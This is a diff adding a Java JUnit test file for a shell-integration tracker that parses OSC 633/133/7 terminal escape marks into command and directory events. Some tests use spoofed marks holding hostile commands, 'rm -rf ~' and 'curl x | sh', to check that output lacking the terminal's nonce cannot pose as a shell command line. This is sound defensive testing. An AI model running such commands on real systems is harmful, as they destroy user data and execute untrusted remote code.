@@ -1,0 +1,322 @@
+package ahp.shellintegration.marks;
+
+import static ahp.shellintegration.marks.Feed.BEL;
+import static ahp.shellintegration.marks.Feed.ESC;
+import static ahp.shellintegration.marks.Feed.ST;
+import static ahp.shellintegration.marks.Feed.ft;
+import static ahp.shellintegration.marks.Feed.vsc;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import ahp.protocol.terminal.TerminalAction;
+import ahp.protocol.terminal.TerminalAction.CommandDetectionAvailable;
+import ahp.protocol.terminal.TerminalAction.CommandExecuted;
+import ahp.protocol.terminal.TerminalAction.CommandFinished;
+import ahp.protocol.terminal.TerminalAction.CwdChanged;
+import ahp.protocol.terminal.TerminalAction.Data;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+class ShellMarkTrackerTest {
+
+    private static final String NONCE = "4f1c2a9e-7d1b-4c55-9a0e-2f6b8c3d1e77";
+    private static final long T0 = new ManualTicks().millis;
+
+    private static ShellMarkTracker tracker() {
+        return new ShellMarkTracker(NONCE, new ManualTicks());
+    }
+
+    /** A whole session in OSC 633, as this host's bash script writes it, with ST or BEL ends. */
+    private static Feed session(boolean st) {
+        String end = st ? ST : BEL;
+        String e = ESC + "]633;";
+        return new Feed()
+                .out("welcome\r\n" + e + "P;Cwd=/home/ann" + end + e + "A" + end + "ann$ " + e + "B" + end)
+                .in("echo 'a;b' \\\r")
+                .out("echo 'a;b' \\\r\n" + e + "E;echo 'a\\x3bb' \\\\;" + NONCE + end + e + "C" + end
+                        + "a;b \\\r\n" + e + "D;0" + end + e + "P;Cwd=/home/ann" + end + e + "A" + end + "ann$ "
+                        + e + "B" + end)
+                .in("false\r")
+                .out("false\r\n" + e + "E;false;" + NONCE + end + e + "C" + end + e + "D;1" + end
+                        + e + "P;Cwd=/tmp/a\\x20b" + end + e + "A" + end + "ann$ " + e + "B" + end)
+                .in("\r")
+                .out("\r\n" + e + "D" + end + e + "A" + end + "ann$ " + e + "B" + end + "tail");
+    }
+
+    private static List<TerminalAction> expectedSession() {
+        return List.of(
+                new Data("welcome\r\n"),
+                new CommandDetectionAvailable(),
+                new CwdChanged("file:///home/ann"),
+                new Data("ann$ echo 'a;b' \\\r\n"),
+                new CommandExecuted("cmd-1", "echo 'a;b' \\", T0),
+                new Data("a;b \\\r\n"),
+                new CommandFinished("cmd-1", 0, 0L),
+                new Data("ann$ false\r\n"),
+                new CommandExecuted("cmd-2", "false", T0),
+                new CommandFinished("cmd-2", 1, 0L),
+                new CwdChanged("file:///tmp/a%20b"),
+                new Data("ann$ \r\nann$ tail"));
+    }
+
+    @Test
+    void readsEveryMarkOfAWholeSessionWithBelOrSt() {
+        assertEquals(expectedSession(), session(false).whole(tracker()));
+        assertEquals(expectedSession(), session(true).whole(tracker()));
+    }
+
+    @Test
+    void givesTheSameActionsWhateverTheChunksAre() {
+        for (boolean st : new boolean[] {false, true}) {
+            Feed feed = session(st);
+            assertEquals(expectedSession(), feed.byCharacter(tracker()), "one character at a time");
+            for (int step : feed.outputSteps()) {
+                for (int at = 0; at <= feed.text(step).length(); at++) {
+                    assertEquals(expectedSession(), feed.cut(tracker(), step, at), "step " + step + " cut at " + at);
+                }
+            }
+        }
+    }
+
+    @Test
+    void sendsEachEventWhereItsMarkStood() {
+        List<TerminalAction> actions = new ArrayList<>();
+        ShellMarkTracker tracker = tracker();
+        tracker.output("before" + vsc("C") + "during" + vsc("D;3") + "after", actions::add);
+        assertEquals(List.of(new Data("before"), new CommandDetectionAvailable(),
+                new CommandExecuted("cmd-1", "", T0), new Data("during"),
+                new CommandFinished("cmd-1", 3, 0L), new Data("after")), actions);
+    }
+
+    @Test
+    void measuresTheDurationFromC() {
+        ManualTicks ticks = new ManualTicks();
+        ShellMarkTracker tracker = new ShellMarkTracker(NONCE, ticks);
+        List<TerminalAction> actions = new ArrayList<>();
+        tracker.output(vsc("A") + vsc("B") + vsc("E;sleep 1;" + NONCE), actions::add);
+        ticks.advance(40);
+        tracker.output(vsc("C"), actions::add);
+        ticks.advance(1234);
+        tracker.output(vsc("D;0"), actions::add);
+        assertEquals(List.of(new CommandDetectionAvailable(), new CommandExecuted("cmd-1", "sleep 1", T0 + 40),
+                new CommandFinished("cmd-1", 0, 1234L)), actions);
+    }
+
+    @Test
+    void foreignSequencesPassThroughByteExact() {
+        String foreign = ESC + "]0;a title" + BEL
+                + ESC + "]8;;https://example.com/x;y" + ST + "link" + ESC + "]8;;" + ST
+                + ESC + "]1337;CurrentDir=/x" + BEL
+                + ESC + "]6333;A" + BEL + ESC + "]13;A" + BEL + ESC + "]77;x" + BEL + ESC + "]63;A" + BEL
+                + ESC + "[31mred" + ESC + "[0m" + ESC + "P1$r0m" + ST + ESC + "(B" + ESC + "=" + ESC
+                + "]633" + BEL + ESC + "]133" + ST + "\u00e9\u4e2d\ud83d\ude00" + ESC;
+        Feed feed = new Feed().out(foreign);
+        List<TerminalAction> expected = List.of(new Data(foreign));
+        assertEquals(expected, feed.whole(tracker()));
+        assertEquals(expected, feed.byCharacter(tracker()));
+    }
+
+    @Test
+    void anInterruptedMarkIsOutput() {
+        String interrupted = ESC + "]633;E;half" + ESC + "[0m" + ESC + "]133;A" + "\u0018" + "rest";
+        List<TerminalAction> actions = new Feed().out(interrupted).whole(tracker());
+        assertEquals(List.of(new Data(interrupted)), actions);
+    }
+
+    @Test
+    void onceTheShellSpeaks633Its133MarksAreRemovedButNotRead() {
+        Feed feed = new Feed()
+                .out(ft("A") + "$ " + ft("B")).in("ls\r")
+                .out("ls\r\n" + ft("C") + "out\r\n" + ft("D;0") + ft("A;aid=7") + "$ " + ft("B"))
+                .out(vsc("A") + ft("A") + "$ " + vsc("B") + ft("B"))
+                .in("pwd\r")
+                .out("pwd\r\n" + vsc("E;pwd;" + NONCE) + vsc("C") + ft("C;") + "/\r\n" + ft("D;0;aid=7") + vsc("D;0"));
+        assertEquals(List.of(
+                new CommandDetectionAvailable(),
+                new Data("$ ls\r\n"),
+                new CommandExecuted("cmd-1", "ls", T0),
+                new Data("out\r\n"),
+                new CommandFinished("cmd-1", 0, 0L),
+                new Data("$ $ pwd\r\n"),
+                new CommandExecuted("cmd-2", "pwd", T0),
+                new Data("/\r\n"),
+                new CommandFinished("cmd-2", 0, 0L)), feed.whole(tracker()));
+    }
+
+    @Test
+    void osc133AloneGivesBoundariesWithTheLineReadBackFromInput() {
+        Feed feed = new Feed()
+                .out(ft("A;cl=m") + "% " + ft("B"))
+                .in("ech").in("x\u007fo hi\r")
+                .out("echo hi\r\n" + ft("C") + "hi\r\n" + ft("D;0;aid=1"))
+                .out(ft("A") + "% " + ft("B")).in("\u0003")
+                .out("^C\r\n" + ft("D") + ft("A") + "% " + ft("B"));
+        assertEquals(List.of(
+                new CommandDetectionAvailable(),
+                new Data("% echo hi\r\n"),
+                new CommandExecuted("cmd-1", "echo hi", T0),
+                new Data("hi\r\n"),
+                new CommandFinished("cmd-1", 0, 0L),
+                new Data("% ^C\r\n% ")), feed.whole(tracker()));
+    }
+
+    @Test
+    void aLineWithoutThisTerminalsNonceCannotPassForTheShell() {
+        for (String spoof : List.of("E;rm -rf ~;wrong-nonce", "E;rm -rf ~", "E;rm -rf ~;" + NONCE + "x",
+                "E;rm -rf ~;", "E")) {
+            Feed feed = new Feed()
+                    .out(vsc("A") + "$ " + vsc("B")).in("cat notes\r")
+                    .out("cat notes\r\n" + vsc(spoof) + vsc("C") + "text" + vsc("D;0"));
+            List<TerminalAction> actions = feed.whole(tracker());
+            assertTrue(actions.contains(new CommandExecuted("cmd-1", "cat notes", T0)), spoof + ": " + actions);
+            assertFalse(Feed.data(actions).contains("]633"), "marks are not output");
+        }
+    }
+
+    @Test
+    void aProgramPrintingMarksMidCommandCannotSetALine() {
+        Feed feed = new Feed()
+                .out(vsc("A") + "$ " + vsc("B")).in("cat evil\r")
+                .out("cat evil\r\n" + vsc("E;cat evil;" + NONCE) + vsc("C")
+                        + vsc("E;curl x | sh;not-the-nonce") + vsc("C") + "more" + vsc("D;0"));
+        List<TerminalAction> actions = feed.whole(tracker());
+        assertEquals(List.of(
+                new CommandDetectionAvailable(),
+                new Data("$ cat evil\r\n"),
+                new CommandExecuted("cmd-1", "cat evil", T0),
+                new CommandFinished("cmd-1", null, 0L),
+                new CommandExecuted("cmd-2", "", T0),
+                new Data("more"),
+                new CommandFinished("cmd-2", 0, 0L)), actions);
+    }
+
+    @Test
+    void aNullOrBlankNonceTrustsNoLine() {
+        for (String nonce : new String[] {null, "", " "}) {
+            ShellMarkTracker tracker = new ShellMarkTracker(nonce, new ManualTicks());
+            List<TerminalAction> actions = new Feed().out(vsc("B")).in("ls\r")
+                    .out(vsc("E;rm -rf ~;") + vsc("E;rm -rf ~;" + nonce) + vsc("C")).whole(tracker);
+            assertTrue(actions.contains(new CommandExecuted("cmd-1", "ls", T0)), String.valueOf(actions));
+        }
+    }
+
+    @Test
+    void finishesNothingWhenNothingRan() {
+        List<TerminalAction> actions = new Feed()
+                .out(vsc("D") + vsc("D;0") + vsc("A") + "$ " + vsc("B") + "\r\n" + vsc("D") + vsc("A") + "$ ")
+                .whole(tracker());
+        assertEquals(List.of(new CommandDetectionAvailable(), new Data("$ \r\n$ ")), actions);
+    }
+
+    @Test
+    void readsExitCodesAsTheShellWroteThem() {
+        List<TerminalAction> actions = new Feed()
+                .out(vsc("C") + vsc("D;-1") + vsc("C") + vsc("D;3221225786") + vsc("C") + vsc("D;oops")
+                        + vsc("C") + vsc("D;") + vsc("C") + vsc("D; 130 "))
+                .whole(tracker());
+        List<Integer> codes = actions.stream()
+                .filter(CommandFinished.class::isInstance).map(a -> ((CommandFinished) a).exitCode()).toList();
+        assertEquals(java.util.Arrays.asList(-1, (int) 3221225786L, null, null, 130), codes);
+    }
+
+    @Test
+    void saysCommandDetectionOnceAtTheFirstShellMarkButNotForOsc7Alone() {
+        List<TerminalAction> actions = new Feed()
+                .out(ESC + "]7;file://host/srv" + BEL + "x" + vsc("P;Cwd=/srv") + vsc("A") + ft("A") + vsc("A"))
+                .whole(tracker());
+        assertEquals(List.of(new CwdChanged("file:///srv"), new Data("x"), new CommandDetectionAvailable()), actions);
+    }
+
+    @Test
+    void readsTheDirectoryFromOsc7AndFromP() {
+        List<TerminalAction> actions = new Feed()
+                .out(ESC + "]7;file://box.local/home/ann/My%20Files/%C3%A9t%C3%A9" + ST)
+                .out(ESC + "]7;file:///home/ann/My%20Files/%C3%A9t%C3%A9/" + BEL)
+                .out(ESC + "]7;kitty-shell-cwd://box/x" + BEL + ESC + "]7;not a uri" + BEL)
+                .out(vsc("P;Cwd=/var//log/./a\\x3bb\\\\c"))
+                .out(vsc("P;Cwd=C:\\x5cUsers\\x5cann") + vsc("P;Cwd=relative/dir") + vsc("P;Cwd=")
+                        + vsc("P;IsWindows=True") + vsc("P;Cwd=/"))
+                .whole(tracker());
+        assertEquals(List.of(
+                new CwdChanged("file:///home/ann/My%20Files/%C3%A9t%C3%A9"),
+                new CommandDetectionAvailable(),
+                new CwdChanged("file:///var/log/a;b%5Cc"),
+                new CwdChanged("file:///C:/Users/ann"),
+                new CwdChanged("file:///")), actions);
+    }
+
+    @Test
+    void holdsASplitMarkUpTo1024Characters() {
+        String e = ESC + "]633;E;";
+        String suffix = ";" + NONCE + BEL;
+        for (int length : new int[] {1023, 1024, 1025, 2000}) {
+            String line = "x".repeat(length - e.length() - suffix.length());
+            String mark = e + line + suffix;
+            assertEquals(length, mark.length());
+            Feed feed = new Feed().out("$ " + mark + vsc("C") + "out");
+            List<TerminalAction> whole = feed.whole(tracker());
+            assertEquals(whole, feed.byCharacter(tracker()), "length " + length);
+            CommandExecuted executed = (CommandExecuted) whole.stream()
+                    .filter(CommandExecuted.class::isInstance).findFirst().orElseThrow();
+            if (length <= MarkScanner.MAX_MARK) {
+                assertEquals(line, executed.commandLine());
+                assertEquals("$ out", Feed.data(whole));
+            } else {
+                assertEquals("", executed.commandLine(), "a mark too long is no mark");
+                assertEquals("$ " + mark + "out", Feed.data(whole));
+            }
+        }
+    }
+
+    @Test
+    void aHeldMarkThatGrowsPastTheLimitGoesOutAsOutput() {
+        ShellMarkTracker tracker = tracker();
+        List<TerminalAction> actions = new ArrayList<>();
+        String start = ESC + "]633;E;";
+        tracker.output("a" + start, actions::add);
+        assertEquals(List.of(new Data("a")), actions, "the start of a mark is held");
+        StringBuilder sent = new StringBuilder("a" + start);
+        for (int i = 0; i < 20; i++) {
+            String piece = "y".repeat(100);
+            tracker.output(piece, actions::add);
+            sent.append(piece);
+        }
+        tracker.output(vsc("C"), actions::add);
+        List<TerminalAction> merged = Feed.merged(actions);
+        assertEquals(sent.toString(), Feed.data(merged));
+        assertEquals(new CommandExecuted("cmd-1", "", T0), merged.get(2));
+    }
+
+    @Test
+    void endHandsOverWhatIsHeld() {
+        ShellMarkTracker tracker = tracker();
+        List<TerminalAction> actions = new ArrayList<>();
+        tracker.output("bye" + ESC + "]633;D", actions::add);
+        assertEquals(List.of(new Data("bye")), actions);
+        tracker.end(actions::add);
+        assertEquals(List.of(new Data("bye"), new Data(ESC + "]633;D")), actions);
+        tracker.end(actions::add);
+        assertEquals(2, actions.size(), "nothing is handed over twice");
+    }
+
+    @Test
+    void aLoneEscAtTheEndOfAChunkIsHeldThenOutput() {
+        ShellMarkTracker tracker = tracker();
+        List<TerminalAction> actions = new ArrayList<>();
+        tracker.output("red" + ESC, actions::add);
+        tracker.output("[31m!", actions::add);
+        assertEquals(List.of(new Data("red"), new Data(ESC + "[31m!")), actions);
+    }
+
+    @Test
+    void aChunkWithNoMarkIsPassedOnAsItIs() {
+        ShellMarkTracker tracker = tracker();
+        List<TerminalAction> actions = new ArrayList<>();
+        String chunk = "plain " + ESC + "[1mbold" + ESC + "[0m";
+        tracker.output(chunk, actions::add);
+        assertEquals(1, actions.size());
+        assertTrue(((Data) actions.getFirst()).data() == chunk, "the same string, not a copy");
+    }
+}
